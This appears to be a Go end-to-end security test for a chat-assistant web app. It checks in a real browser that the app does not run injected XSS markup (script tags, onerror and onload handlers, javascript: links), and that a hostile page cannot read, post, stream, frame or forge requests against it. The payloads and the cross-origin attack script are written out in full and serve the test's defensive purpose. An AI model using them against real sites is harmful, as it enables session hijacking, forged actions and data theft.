package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/switchboard-run/switchboard/extensions/openai/openaitest"
)

// markup is what would run if a page took it for its own.
const markup = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script><svg/onload=window.pwned=1>` +
	`[a](javascript:window.pwned=1) ![b](javascript:window.pwned=1) <a href="javascript:window.pwned=1">c</a>`

// What models, people and names say is text on every page, in a real browser.
func TestMarkupStaysTextInABrowser(t *testing.T) {
	t.Parallel()
	w := chatting(t)
	w.model.Handle(func(openaitest.Request) openaitest.Answer { return openaitest.Say(markup) })
	b := w.tab(w.chromium(), desktopWidth, desktopHeight)
	b.says(markup)
	b.is("the answer", `document.querySelectorAll("#log .line").length === 2`)
	w.must("memory", "add", markup)
	w.must("schedules", "add", markup, "--in", "2h")
	base := b.value(`location.origin`)
	for _, path := range []string{"/", "/board", "/board/sessions", "/board/schedules", "/board/memory", "/board/people",
		"/board/questions", "/board/tasks", "/board/usage", "/board/logins", "/board/configuration",
		"/search?q=pwned%3Cscript%3E", "/board/memory?q=%3Cscript%3Ewindow.pwned%3D1%3C/script%3E"} {
		b.run(chromedp.Navigate(base+path), chromedp.WaitReady("main", chromedp.ByQuery))
		if got := b.value(`window.pwned`); got != "undefined" {
			t.Errorf("%s ran what somebody wrote", path)
		}
		if got := b.value(`[...document.querySelectorAll("a,form,img,iframe")].filter((e) =>
			/^javascript:/i.test(e.href || e.action || e.src || "")).length`); got != "0" {
			t.Errorf("%s has %s elements with an address that is a script", path, got)
		}
	}
	found := b.value(`[...document.querySelectorAll("script:not([src])")].filter((e) =>
		!/json/.test(e.type)).length`)
	if found != "0" {
		t.Errorf("there are %s scripts in the page", found)
	}
}

// A page of another site, open in the owner's browser, reads nothing and changes nothing.
func TestAForeignPageInABrowser(t *testing.T) {
	t.Parallel()
	w := chatting(t)
	w.model.Handle(func(openaitest.Request) openaitest.Answer { return openaitest.Say("fine") })
	browser := w.chromium()
	owner := w.tab(browser, desktopWidth, desktopHeight)
	base := owner.value(`location.origin`)
	reports := make(chan string, 1)
	evil := httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/report":
			text, _ := io.ReadAll(r.Body)
			reports <- string(text)
		case "/attack.js":
			out.Header().Set("Content-Type", "text/javascript")
			_, _ = fmt.Fprintf(out, attack, base)
		default:
			out.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(out, `<!doctype html><body><script src="/attack.js"></script>`)
		}
	}))
	defer evil.Close()
	ctx, cancel := chromedp.NewContext(browser)
	defer cancel()
	if err := chromedp.Run(ctx, chromedp.Navigate(evil.URL)); err != nil {
		t.Fatal(err)
	}
	select {
	case text := <-reports:
		if text != "" {
			t.Errorf("the foreign page could: %s", text)
		}
	case <-w.ctx().Done():
		t.Fatal("the foreign page did not report")
	}
	owner.says("still me")
	owner.is("the answer", `document.querySelectorAll("#log .line").length >= 2`)
	for _, line := range owner.lines() {
		if strings.Contains(line, "evil") {
			t.Errorf("the foreign page said %q", line)
		}
	}
	if list := w.must("memory", "list"); strings.Contains(list, "evil") {
		t.Errorf("the foreign page had the assistant remember: %s", list)
	}
}

// attack tries everything that a page may try, and reports what was not refused.
const attack = `
const base = %q;
const could = [];
const reads = ["/", "/board", "/api/v1/sessions", "/v1/models", "/live/chat", "/openapi.json", "/metrics"].map(async (path) => {
  try {
    const r = await fetch(base + path, {credentials: "include"});
    could.push("read " + path + " " + r.status);
  } catch {}
});
const writes = [["/chat/say", "text/plain"], ["/board/memory/add", "application/x-www-form-urlencoded"],
  ["/files", "text/plain"]].map(async ([path, type]) => {
  try {
    await fetch(base + path, {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": type},
      body: type === "text/plain" ? JSON.stringify({id: "evil", text: "evil"}) : "text=evil"});
  } catch {}
});
const stream = new Promise((done) => {
  const s = new EventSource(base + "/live/chat", {withCredentials: true});
  s.onmessage = s.onopen = () => { could.push("follow the chat"); done(); };
  s.onerror = () => { s.close(); done(); };
});
const framed = new Promise((done) => {
  const f = document.createElement("iframe");
  f.src = base + "/";
  f.onload = () => {
    try { if (f.contentDocument && f.contentDocument.querySelector("#text")) could.push("frame the page"); } catch {}
    done();
  };
  document.body.append(f);
});
const posted = new Promise((done) => {
  const target = document.createElement("iframe");
  target.name = "target";
  const form = document.createElement("form");
  form.method = "post"; form.action = base + "/board/memory/add"; form.target = "target";
  form.innerHTML = "<input name=text value=evil>";
  document.body.append(target, form);
  form.submit();
  target.onload = done;
});
Promise.all([...reads, ...writes, stream, framed, posted]).then(() =>
  fetch("/report", {method: "POST", body: could.join("; ")}));
`
